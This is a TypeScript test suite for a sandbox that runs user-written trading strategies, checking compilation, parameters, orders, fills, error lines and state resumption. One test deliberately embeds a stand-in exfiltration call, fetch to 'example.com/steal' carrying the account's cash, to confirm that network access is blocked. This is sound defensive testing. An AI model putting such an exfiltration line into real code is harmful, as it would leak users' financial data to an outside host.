import { describe, expect, it } from 'vitest';
import { SandboxHost } from './host';
import type { Answer, BarSnapshot } from './messages';

const snap = (close: number, t: number, over: Partial<BarSnapshot> = {}): BarSnapshot => ({
  bar: { time: t, open: close, high: close, low: close, close, volume: 1 },
  position: { units: 0, avgPrice: NaN, pnl: 0 },
  cash: 10_000,
  equity: 10_000,
  openOrders: [],
  ...over,
});

function loaded(code: string, params: Record<string, unknown> = {}): { host: SandboxHost; answer: Answer | null } {
  const host = new SandboxHost();
  const answer = host.handle({ t: 'load', seq: 1, code, params, symbol: 'FUN', timeframe: '1m', lot: 1 });
  return { host, answer };
}

const strategy = (onBar: string, extra = '') => `${extra}
return {
  name: 'test',
  params: { n: { type: 'integer', default: 2, min: 1, max: 10 } },
  init(ctx) { return { avg: ctx.ind.sma(ctx.params.n) }; },
  onBar(ctx) {
${onBar}
  },
};`;

describe('SandboxHost', () => {
  it('check: compiles and declares, answering what it declares', () => {
    const a = new SandboxHost().handle({ t: 'check', seq: 4, code: strategy('') });
    expect(a).toEqual({ t: 'checked', seq: 4, ok: true, summary: { name: 'test', title: 'test', description: '', timeframe: '1m', params: { n: { type: 'integer', default: 2, min: 1, max: 10 } } } });
  });

  it('check: a syntax error, a throw at the top, a bad declaration or bad params are failures', () => {
    const h = new SandboxHost();
    expect(h.handle({ t: 'check', seq: 1, code: 'return {\n  name: ,\n};' })).toMatchObject({ ok: false, message: expect.stringMatching(/^SyntaxError/) as unknown });
    expect(h.handle({ t: 'check', seq: 2, code: '\n\nnull.x;\nreturn {};' })).toMatchObject({ ok: false, line: 3, message: expect.stringMatching(/^TypeError/) as unknown });
    expect(h.handle({ t: 'check', seq: 3, code: 'return { name: "x" };' })).toMatchObject({ ok: false, message: expect.stringMatching(/onBar/) as unknown });
    expect(h.handle({ t: 'check', seq: 4, code: 'return { name: "x", params: { n: { type: "integer", default: 50, max: 10 } }, onBar() {} };' }))
      .toMatchObject({ ok: false, message: expect.stringMatching(/default/) as unknown });
  });

  it('load: params are checked like the built-ins\' (an out-of-range value is refused, naming it)', () => {
    expect(loaded(strategy(''), { n: 99 }).answer).toMatchObject({ t: 'failed', ok: false, message: expect.stringMatching(/\bn\b/) as unknown });
    expect(loaded(strategy(''), { other: 1 }).answer).toMatchObject({ t: 'failed', ok: false, message: expect.stringMatching(/Unknown parameter/) as unknown });
    expect(loaded(strategy('')).answer).toMatchObject({ t: 'loaded', ok: true });
  });

  it('bars: indicators are fed, orders collected as the engine will send them, and its log goes back', () => {
    const { host } = loaded(strategy(`
    ctx.log('bar ' + ctx.barIndex + ' avg ' + ctx.indicators.avg.value);
    if (ctx.indicators.avg.ready && ctx.position.units === 0) ctx.buy({ size: { units: 3 }, limit: 9.5, tp: 11, sl: 9, reason: 'dip' });
    if (ctx.position.units > 0) ctx.close('done');`));
    expect(host.handle({ t: 'bar', seq: 2, snap: snap(10, 0) })).toEqual({ t: 'done', seq: 2, ok: true, orders: [], log: ['bar 1 avg NaN'], state: expect.any(String) as unknown });
    const a = host.handle({ t: 'bar', seq: 3, snap: snap(12, 60_000) });
    expect(a).toMatchObject({ t: 'done', seq: 3, orders: [{ op: 'place', side: 'buy', type: 'limit', units: 3, price: 9.5, tp: 11, sl: 9, reason: 'dip' }] });
    expect((a as { log: string[] }).log[0]).toBe('bar 2 avg 11');
    // Holding 3 with an open order: close cancels it and sells the position at market.
    const held = snap(12, 120_000, { position: { units: 3, avgPrice: 10, pnl: 6 }, openOrders: [{ id: 'o9', side: 'sell', type: 'limit', units: 1, filledUnits: 0, price: 20 }] });
    expect(host.handle({ t: 'bar', seq: 4, snap: held })).toMatchObject({
      orders: [{ op: 'cancel', id: 'o9' }, { op: 'place', side: 'sell', type: 'market', units: 3, reason: 'done' }],
    });
  });

  it('new parameters arrive with a bar: checked, and in force from it (init runs again)', () => {
    const { host } = loaded(strategy(`ctx.log('n ' + ctx.params.n + ' ready ' + ctx.indicators.avg.ready);`));
    expect(host.handle({ t: 'bar', seq: 2, snap: { ...snap(10, 0), params: { n: 2 } } })).toMatchObject({ log: ['n 2 ready false'] });
    expect(host.handle({ t: 'bar', seq: 3, snap: { ...snap(10, 1), params: { n: 2 } } })).toMatchObject({ log: ['n 2 ready true'] });
    expect(host.handle({ t: 'bar', seq: 4, snap: { ...snap(10, 2), params: { n: 1 } } })).toMatchObject({ log: ['n 1 ready true'] });
    expect(host.handle({ t: 'bar', seq: 5, snap: { ...snap(10, 3), params: { n: 77 } } })).toMatchObject({ t: 'failed' });
  });

  it('spot: a sell beyond the position is refused in the sandbox with its reason, and sends nothing', () => {
    const { host } = loaded(strategy(`ctx.sell({ size: { units: 5 }, reason: 'short' });`));
    const a = host.handle({ t: 'bar', seq: 2, snap: snap(10, 0) });
    expect(a).toMatchObject({ t: 'done', orders: [] });
    expect((a as { log: string[] }).log.join(' ')).toMatch(/short selling needs a margin account/);
  });

  it('a thrown error stops it with the message and the line of the person\'s code', () => {
    const { host } = loaded(strategy(`    if (ctx.barIndex === 2) {\n      throw new Error('boom');\n    }`));
    expect(host.handle({ t: 'bar', seq: 2, snap: snap(10, 0) })).toMatchObject({ t: 'done' });
    const a = host.handle({ t: 'bar', seq: 3, snap: snap(10, 60_000) });
    // Line 1 is blank, `return {` is 2, … onBar's body starts at line 7: the throw is on line 8.
    expect(a).toMatchObject({ t: 'failed', ok: false, message: expect.stringMatching(/boom/) as unknown, line: 8 });
  });

  it('a network call is unreachable: fetch, WebSocket and importScripts are undefined in the code', () => {
    expect(typeof fetch).toBe('function'); // Node's own, there for the engine's tests: not for the code
    const { host } = loaded(strategy(`
    if (typeof WebSocket !== 'undefined' || typeof importScripts !== 'undefined' || typeof XMLHttpRequest !== 'undefined') throw new Error('reachable');
    fetch('https://example.com/steal?cash=' + ctx.cash);`));
    const a = host.handle({ t: 'bar', seq: 2, snap: snap(10, 0) });
    expect(a).toMatchObject({ t: 'failed', message: expect.stringMatching(/TypeError: fetch is not a function/) as unknown, line: 9 });
  });

  it('a huge allocation throws and stops the strategy with its line', () => {
    const { host } = loaded(strategy(`    const big = new ArrayBuffer(2 ** 50);\n    ctx.log(big.byteLength);`));
    expect(host.handle({ t: 'bar', seq: 2, snap: snap(10, 0) })).toMatchObject({ t: 'failed', message: expect.stringMatching(/RangeError/) as unknown, line: 7 });
  });

  it('orders outside a call (a scheduled callback, a kept ctx) are refused', () => {
    const { host } = loaded(strategy(`ctx.state.n = (ctx.state.n ?? 0) + 1;`, 'let kept;'));
    expect(host.handle({ t: 'bar', seq: 2, snap: snap(10, 0) })).toMatchObject({ t: 'done', orders: [] });
    expect(host.handle({ t: 'nonsense', seq: 3 })).toBeNull();
    expect(host.handle(null)).toBeNull();
  });

  it('a bar before load is a failure, not a crash', () => {
    expect(new SandboxHost().handle({ t: 'bar', seq: 1, snap: snap(1, 0) })).toMatchObject({ ok: false, message: 'The strategy was not loaded.' });
  });
});

describe('SandboxHost: fills and resuming', () => {
  const COUNTER = `return {
  name: 'counter',
  params: { n: { type: 'integer', default: 3, min: 1, max: 10 } },
  init(ctx) { return { avg: ctx.ind.sma(ctx.params.n) }; },
  onBar(ctx) {
    ctx.state.bars = (ctx.state.bars ?? 0) + 1;
    ctx.log('bars ' + ctx.state.bars + ' index ' + ctx.barIndex + ' sma ' + ctx.indicators.avg.value + ' fills ' + (ctx.state.fills ?? 0));
  },
  onFill(ctx, fill) {
    ctx.state.fills = (ctx.state.fills ?? 0) + fill.units;
    ctx.log('fill ' + fill.side + ' ' + fill.units + ' @ ' + fill.price + ' on bar ' + ctx.barIndex);
  },
};`;
  const closes = [10, 11, 13, 12, 15, 14, 16, 18];
  const bar = (host: SandboxHost, i: number, over: Partial<BarSnapshot> = {}) => host.handle({ t: 'bar', seq: 10 + i, snap: snap(closes[i], i * 60_000, over) });
  const done = (a: Answer | null) => {
    if (a?.t !== 'done') throw new Error(`not done: ${JSON.stringify(a)}`);
    return a;
  };

  it('onFill is called with each fill sent with a bar, before its onBar', () => {
    const { host } = loaded(COUNTER);
    done(bar(host, 0));
    const fill = { orderId: 'strat:S1.1', side: 'buy' as const, units: 2, price: 10.5, fee: 0.01, time: 61_000 };
    const a = done(bar(host, 1, { fills: [fill] }));
    expect(a.log).toEqual(['fill buy 2 @ 10.5 on bar 1', 'bars 2 index 2 sma NaN fills 2']);
    // An error in onFill stops it with its line, as one in onBar does.
    const { host: h2 } = loaded(COUNTER.replace("ctx.state.fills = (ctx.state.fills ?? 0) + fill.units;", 'null.x;'));
    done(bar(h2, 0));
    expect(bar(h2, 1, { fills: [fill] })).toMatchObject({ t: 'failed', message: expect.stringMatching(/TypeError/) as unknown, line: 10 });
  });

  it('each answer carries its state; a new sandbox loaded with it goes on exactly as the first one', () => {
    const { host } = loaded(COUNTER);
    const answers = closes.map((_, i) => done(bar(host, i, i === 2 ? { fills: [{ orderId: 'x', side: 'buy', units: 1, price: 13, fee: 0, time: 1 }] } : {})));
    const cut = 4;
    const state = answers[cut].state;
    expect(state).not.toBeNull();
    expect(JSON.parse(state!)).toMatchObject({ barIndex: cut + 1, mem: { bars: cut + 1, fills: 1 }, history: { log: [] } });

    const again = new SandboxHost();
    const l = again.handle({ t: 'load', seq: 1, code: COUNTER, params: {}, symbol: 'FUN', timeframe: '1m', lot: 1, state: state! });
    expect(l).toMatchObject({ t: 'loaded', note: expect.stringMatching(/^Resumed where it was: bar 5/) as unknown });
    for (let i = cut + 1; i < closes.length; i++) expect(done(bar(again, i))).toEqual(answers[i]);
    expect(answers.at(-1)!.log).toEqual(['bars 8 index 8 sma 16 fills 1']);
  });

  it('parameters changed while it was away are taken from the next bar; a state that does not fit starts it afresh, said', () => {
    const { host } = loaded(COUNTER);
    const state = done(bar(host, 0)).state!;
    const changed = new SandboxHost();
    expect(changed.handle({ t: 'load', seq: 1, code: COUNTER, params: { n: 2 }, symbol: 'FUN', timeframe: '1m', lot: 1, state })).toMatchObject({ note: expect.stringMatching(/^Resumed/) as unknown });
    // init ran again with n = 2: its SMA starts cold and is ready after two bars; the count goes on.
    expect(done(bar(changed, 1, { params: { n: 2 } })).log).toEqual(['bars 2 index 2 sma NaN fills 0']);
    expect(done(bar(changed, 2, { params: { n: 2 } })).log).toEqual(['bars 3 index 3 sma 12 fills 0']);

    const bad = (s: string) => {
      const h = new SandboxHost();
      const a = h.handle({ t: 'load', seq: 1, code: COUNTER, params: {}, symbol: 'FUN', timeframe: '1m', lot: 1, state: s });
      return { h, a };
    };
    for (const s of ['not json', '{}', JSON.stringify({ ...JSON.parse(state) as object, feeds: [] }), JSON.stringify({ ...JSON.parse(state) as object, mem: [] })]) {
      const { h, a } = bad(s);
      expect(a).toMatchObject({ t: 'loaded', note: expect.stringMatching(/^Could not resume where it was \(.+\): started afresh\.$/) as unknown });
      expect(done(bar(h, 1)).log).toEqual(['bars 1 index 1 sma NaN fills 0']);
    }
    // Another code (one indicator more) does not take this one's state.
    const edited = COUNTER.replace('return { avg: ctx.ind.sma(ctx.params.n) };', 'return { avg: ctx.ind.sma(ctx.params.n), e: ctx.ind.ema(2) };');
    const h = new SandboxHost();
    expect(h.handle({ t: 'load', seq: 1, code: edited, params: {}, symbol: 'FUN', timeframe: '1m', lot: 1, state })).toMatchObject({ note: expect.stringMatching(/declares 2 indicators/) as unknown });
  });

  it('a ctx.state JSON cannot hold is not saved (null), and the strategy goes on', () => {
    const { host } = loaded(strategy('ctx.state.big = 10n;'));
    expect(done(host.handle({ t: 'bar', seq: 2, snap: snap(10, 0) }))).toMatchObject({ state: null, orders: [] });
  });
});
